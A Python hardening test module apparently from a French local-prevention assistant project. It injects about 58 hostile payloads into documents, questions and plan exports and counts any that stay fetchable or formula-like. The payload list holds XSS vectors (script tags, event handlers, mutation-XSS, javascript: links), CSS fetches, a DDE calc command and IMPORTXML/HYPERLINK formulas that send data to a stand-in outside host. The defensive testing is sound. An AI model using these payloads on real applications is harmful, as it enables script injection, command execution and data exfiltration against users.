"""Campaign 2 — hostile HTML in output. `python -m hardening html`

At least 50 payloads (scripts, event handlers, frames, objects, CSS, scheme links, Markdown images, spreadsheet
formulas) go into a document, into a territory profile, into questions and into a text to check. Counted: any
output field that a viewer would render into something fetched or run (hardening/common.py FETCHABLE), and the
cells of the DOCX and Markdown exports that a spreadsheet would read as a formula. The browser side (the app in
Chromium, outside requests blocked and counted, dialogs and side effects counted) is tests/ui/test_hostile_html.py,
which this campaign runs too.
"""

from __future__ import annotations

import io
import os
import re
import subprocess
import sys
import time
import zipfile
from pathlib import Path

from .common import ROOT, fetchable, settings_for

OUTSIDE = "http://203.0.113.9"  # TEST-NET-3: never routed; any request to it is an outside fetch


def _pwn(n: int) -> str:
    return f"(window.__aap_pwned=window.__aap_pwned||[]).push({n})"


def payloads() -> list[str]:
    """Each payload, if it ever ran or loaded, would push its number to window.__aap_pwned or fetch OUTSIDE/…/n."""
    p = []
    add = p.append
    add(f"<script>{_pwn(len(p))}</script>")
    add(f"<ScRiPt>{_pwn(len(p))}</sCrIpT>")
    add(f"<script src={OUTSIDE}/s/{len(p)}.js></script>")
    add(f"<img src=x onerror=\"{_pwn(len(p))}\">")
    add(f"<img src={OUTSIDE}/i/{len(p)}.png>")
    add(f"<IMG SRC=\"javascript:{_pwn(len(p))}\">")
    add(f"<img src=x onerror={_pwn(len(p))}//")
    add(f"<svg onload=\"{_pwn(len(p))}\"></svg>")
    add(f"<svg><image href=\"{OUTSIDE}/i/{len(p)}.svg\"/></svg>")
    add(f"<body onload=\"{_pwn(len(p))}\">")
    add(f"<iframe src=\"{OUTSIDE}/f/{len(p)}\"></iframe>")
    add(f"<iframe srcdoc=\"<script>parent.{_pwn(len(p))}</script>\"></iframe>")
    add(f"<iframe src=\"javascript:parent.{_pwn(len(p))}\"></iframe>")
    add(f"<object data=\"{OUTSIDE}/o/{len(p)}\"></object>")
    add(f"<embed src=\"{OUTSIDE}/e/{len(p)}\">")
    add(f"<video src=x onerror=\"{_pwn(len(p))}\"></video>")
    add(f"<audio src=\"{OUTSIDE}/a/{len(p)}.mp3\" autoplay></audio>")
    add(f"<video poster=\"{OUTSIDE}/v/{len(p)}.png\"></video>")
    add(f"<details open ontoggle=\"{_pwn(len(p))}\">x</details>")
    add(f"<input autofocus onfocus=\"{_pwn(len(p))}\">")
    add(f"<marquee onstart=\"{_pwn(len(p))}\">x</marquee>")
    add(f"<a href=\"javascript:{_pwn(len(p))}\">clic</a>")
    add(f"<a href=\"{OUTSIDE}/l/{len(p)}\" ping=\"{OUTSIDE}/ping/{len(p)}\">lien</a>")
    add(f"<form action=\"{OUTSIDE}/form/{len(p)}\"><button>Envoyer</button></form>")
    add(f"<meta http-equiv=\"refresh\" content=\"0;url={OUTSIDE}/m/{len(p)}\">")
    add(f"<base href=\"{OUTSIDE}/b/{len(p)}/\">")
    add(f"<link rel=stylesheet href=\"{OUTSIDE}/c/{len(p)}.css\">")
    add(f"<style>@import url({OUTSIDE}/c/{len(p)}.css);</style>")
    add(f"<style>body{{background:url({OUTSIDE}/c/{len(p)}.png)}}</style>")
    add(f"<div style=\"background-image:url({OUTSIDE}/c/{len(p)}.png)\">fond</div>")
    add(f"<p style=\"width:expression({_pwn(len(p))})\">vieux IE</p>")
    add(f"<math><mtext><table><mglyph><style><img src=x onerror=\"{_pwn(len(p))}\">")
    add(f"<noscript><p title=\"</noscript><img src=x onerror={_pwn(len(p))}>\">")
    add(f"<template><img src=x onerror=\"{_pwn(len(p))}\"></template>")
    add(f"&lt;img src=x onerror=\"{_pwn(len(p))}\"&gt;")
    add(f"&#60;script&#62;{_pwn(len(p))}&#60;/script&#62;")
    add(f"![pixel]({OUTSIDE}/md/{len(p)}.png)")
    add(f"![pixel][ref{len(p)}]\n\n[ref{len(p)}]: {OUTSIDE}/md/{len(p)}.png")
    add(f"[clic](javascript:{_pwn(len(p))})")
    add(f"[clic]({OUTSIDE}/md/{len(p)})")
    add(f"<{OUTSIDE}/auto/{len(p)}>")
    add(f"<javascript:{_pwn(len(p))}>")
    add(f"[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)")
    add(f"$$\\href{{javascript:{_pwn(len(p))}}}{{clic}}$$")
    add("{{7*7}} ${7*7} <%= 7*7 %> #{7*7}")
    add(f"\"><script>{_pwn(len(p))}</script>")
    add(f"'><img src=x onerror={_pwn(len(p))}>")
    add(f"</textarea><script>{_pwn(len(p))}</script>")
    add(f"</title><script>{_pwn(len(p))}</script>")
    add(f"<scr<script>ipt>{_pwn(len(p))}</scr</script>ipt>")
    add(f"=HYPERLINK(\"{OUTSIDE}/x/{len(p)}\",\"Cliquez\")")
    add("=1+1")
    add("+1+1")
    add("-1+1")
    add("@SUM(1,1)")
    add("=cmd|' /C calc'!A0")
    add("\t=1+2")
    add("=IMPORTXML(CONCAT(\"http://203.0.113.9/x?\",A1),\"//a\")")
    return p


FORMULA_START = re.compile(r"^[=+\-@\t\r]")


def docx_formula_cells(data: bytes) -> tuple[int, list[str]]:
    """Table cells and paragraphs of a DOCX whose text starts like a spreadsheet formula."""
    import docx

    document = docx.Document(io.BytesIO(data))
    texts = [p.text for p in document.paragraphs]
    texts += [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    bad = [t for t in texts if FORMULA_START.match(t) and len(t) > 1]
    return len(bad), bad[:5]


def markdown_formula_cells(text: str) -> tuple[int, list[str]]:
    cells = [c.strip() for line in text.splitlines() if line.startswith("|") for c in line.strip("|").split("|")]
    bad = [c for c in cells if FORMULA_START.match(c) and len(c) > 1 and not re.fullmatch(r"-{3,}|:?-+:?", c)]
    return len(bad), bad[:5]


def _answer_fields(answer) -> list[str]:
    out = [answer.answer, answer.notice or ""]
    for c in answer.citations + answer.closest_sources:
        out += [c.title, c.section, c.excerpt, *c.quotes]
    return out


def _document(folder: Path, items: list[str], fmt: str) -> Path:
    from . import docgen

    lines = [f"Le quartier Hostilia prévoit une action de prévention numéro {i} : {p}" for i, p in enumerate(items)]
    path = folder / f"hostile-{fmt}.{fmt}"
    if fmt == "html":
        path.write_text("<html><head><title>Note Hostilia <script>x</script></title></head><body>"
                        + "".join(f"<p>{line}</p>" for line in lines) + "</body></html>", encoding="utf-8")
    elif fmt == "docx":
        docgen.write(path, [("p", line) for line in lines], {"title": "Note Hostilia " + items[0]})
    else:
        path.write_text(f"# Note Hostilia {items[0]}\n\n" + "\n\n".join(lines) + "\n", encoding="utf-8")
    return path


def _edited(plan, texts: list[str], criteria):
    """The plan with hostile text typed into every free field of its actions (titles, leads, partners…)."""
    from assistant.plans import ActionPlan

    data = plan.model_dump(mode="json")
    for i, action in enumerate(data["actions"]):
        text = texts[i % len(texts)][:290]
        action["title"], action["lead"], action["public"] = text, text, text
        action["partners"] = [text] + action["partners"]
        action["indicators"] = [text] + action["indicators"]
    data["summary"] = texts[0]
    data["governance"]["chair"] = texts[0][:200]
    return ActionPlan.model_validate(data, context={"criteria": criteria})


def run(workdir: Path, count: int | None = None, browser: bool = True, questions_every: int = 1, log=print) -> dict:
    """`questions_every`: put one payload in so many into a question (every payload goes in the document)."""
    from assistant import Assistant
    from assistant.plans.export import to_docx_bytes, to_json, to_markdown

    items = payloads()[:count]
    started = time.perf_counter()
    settings = settings_for(workdir, "medium")
    assistant = Assistant.from_settings(settings)
    assistant.ingest()
    result: dict = {"payloads": len(items)}

    folder = workdir / "docs"
    folder.mkdir(parents=True, exist_ok=True)
    files = [_document(folder, items, fmt) for fmt in ("md", "html", "docx", "txt")]
    report = assistant.add_files(files)
    stored = [c for c in assistant.kb.store.all_chunks() if c.kind.value == "document local"]
    titles = [d.title + " " + d.source for d in assistant.documents()]
    result["documents"] = {"files": len(files), "rejected": report.rejected, "chunks": len(stored),
                           "fetchable_in_store": sum(len(fetchable(c.text)) for c in stored),
                           "fetchable_in_titles": sum(len(fetchable(t)) for t in titles)}

    answers, live = 0, []
    for i, payload in enumerate(items):
        if i % questions_every:
            continue
        for question in (f"Quelle action de prévention numéro {i} prévoit le quartier Hostilia ?",
                         f"Quelles actions de prévention pour les jeunes {payload} ?"):
            answer = assistant.ask(question[:1900])
            answers += 1
            live += [f for text in _answer_fields(answer) for f in fetchable(text)]
    result["questions"] = {"answers": answers, "fetchable": len(live), "examples": live[:5]}
    log(f"  {answers} réponses examinées ({time.perf_counter() - started:.0f} s)")

    formulas = [p for p in items if FORMULA_START.match(p)] or ["=1+1"]
    others = [p for p in items if p not in formulas]
    profile = {"name": formulas[0][:200], "kind": "commune", "population": 20000, "qpv_count": 1,
               "context": " ".join(items)[:4900], "problems": [p[:300] for p in (formulas + others)[:20]],
               "target_ages": "11-17", "existing_partners": [p[:300] for p in (formulas + others[20:])[:40]],
               "priority_finalites": ["prevenir_entree", "espace_public"]}
    plan = assistant.draft(profile)
    edited = _edited(plan, formulas + others, assistant.criteria)  # what a user may type in the plan's table
    markdown = to_markdown(plan, assistant.criteria) + to_markdown(edited, assistant.criteria)
    docx_files = [to_docx_bytes(plan, assistant.criteria), to_docx_bytes(edited, assistant.criteria)]
    document_xml, link_targets = "", []
    for data in docx_files:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            document_xml += archive.read("word/document.xml").decode("utf-8")
            rels = archive.read("word/_rels/document.xml.rels").decode("utf-8")
            link_targets += re.findall(r'Type="[^"]*/hyperlink" Target="([^"]*)"', rels) + re.findall(
                r'Target="([^"]*)"[^>]*Type="[^"]*/hyperlink"', rels)
    # the sources' own addresses (fiche references) are links on purpose; nothing that came from a payload may be
    hostile_text = " ".join(items)
    hostile_links = [t for t in link_targets if t and t in hostile_text]
    docx_cells, docx_examples = 0, []
    for data in docx_files:
        count, examples = docx_formula_cells(data)
        docx_cells, docx_examples = docx_cells + count, docx_examples + examples
    md_cells, md_examples = markdown_formula_cells(markdown)
    checked = assistant.check(" ".join(items)[:4000])
    result["exports"] = {
        "markdown_fetchable": len(fetchable(markdown)), "markdown_formula_cells": md_cells,
        "markdown_formula_examples": md_examples,
        "docx_live_markup": len(re.findall(r"<w:(?:fldSimple|instrText)", document_xml)) + len(hostile_links),
        "docx_source_links": len(link_targets),
        "docx_formula_cells": docx_cells, "docx_formula_examples": docx_examples[:5],
        "json_roundtrip": to_json(edited) == edited.model_dump_json(indent=2),
    }
    # the report gives the reviewer's own text back as data (JSON); tests/ui/test_hostile_html.py checks its display
    result["check"] = {"sentences": len(checked.sentences), "raw_payloads_in_report_data": len(
        [f for s in checked.sentences for f in fetchable(getattr(s, "text", ""))])}
    log(f"  exports et relecture examinés ({time.perf_counter() - started:.0f} s)")

    if browser:
        env = {**os.environ, "HARDEN_HTML_PAYLOADS": str(len(items))}
        run_ui = subprocess.run([sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider",
                                 "tests/ui/test_hostile_html.py"], cwd=ROOT, env=env, capture_output=True, text=True)
        result["browser"] = {"exit_code": run_ui.returncode,
                             "summary": (run_ui.stdout.strip().splitlines() or [""])[-1],
                             "failures": [line for line in run_ui.stdout.splitlines() if line.startswith(("E ", "FAILED"))][:10]}
    result["seconds"] = round(time.perf_counter() - started, 1)
    return result
